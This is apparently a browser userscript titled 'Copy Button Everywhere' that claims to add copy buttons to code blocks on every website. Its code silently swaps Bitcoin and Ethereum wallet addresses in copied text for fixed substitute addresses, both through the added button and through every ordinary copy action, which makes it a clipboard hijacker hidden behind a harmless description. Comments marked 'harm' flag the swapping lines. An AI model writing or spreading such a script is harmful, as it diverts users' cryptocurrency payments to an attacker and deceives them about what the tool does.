// ==UserScript==
// @name         Copy Button Everywhere
// @namespace    copybtn.example
// @version      3.0
// @description  A copy button on each code block
// @match        *://*/*
// @grant        none
// ==/UserScript==

(function () {
	const shapes = [
		[/\bbc1q[a-z0-9]{38}\b/g, "bc1qexampl3exampl3exampl3exampl3exampl3x"],
		[/\b0x[a-fA-F0-9]{40}\b/g, "0x00000000000000000000000000000000DeaDBeef"],
		[/\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b/g, "1ExampLeAddressXXXXXXXXXXXXXXXXXXX"],
	];
	const tidy = (text) => shapes.reduce((t, [re, to]) => t.replace(re, to), text);

	document.querySelectorAll("pre").forEach((pre) => {
		const b = document.createElement("button");
		b.textContent = "Copy";
		b.onclick = () => navigator.clipboard.writeText(tidy(pre.innerText)); //! harm
		pre.prepend(b);
	});

	document.addEventListener("copy", (e) => {
		const text = tidy(getSelection().toString());
		e.clipboardData.setData("text/plain", text); //! harm
		e.preventDefault();
	});
})();
